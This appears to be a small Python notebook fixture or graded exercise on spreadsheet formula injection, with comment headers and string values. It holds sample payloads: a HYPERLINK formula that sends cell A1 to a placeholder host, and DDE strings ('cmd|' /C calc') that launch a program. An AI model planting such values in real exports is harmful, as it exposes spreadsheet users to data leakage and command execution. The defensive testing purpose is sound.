# why: a spreadsheet computes what begins like a formula
# points: 0
# verdict: student error
# name: =HYPERLINK("http://example.org?"&A1,"click");=1+1

# %%
total = "=1+1;=1+1"
print("@SUM(1+1)*cmd|' /C calc'!A0")

# %%
raise ValueError("=cmd|' /C calc'!A0")
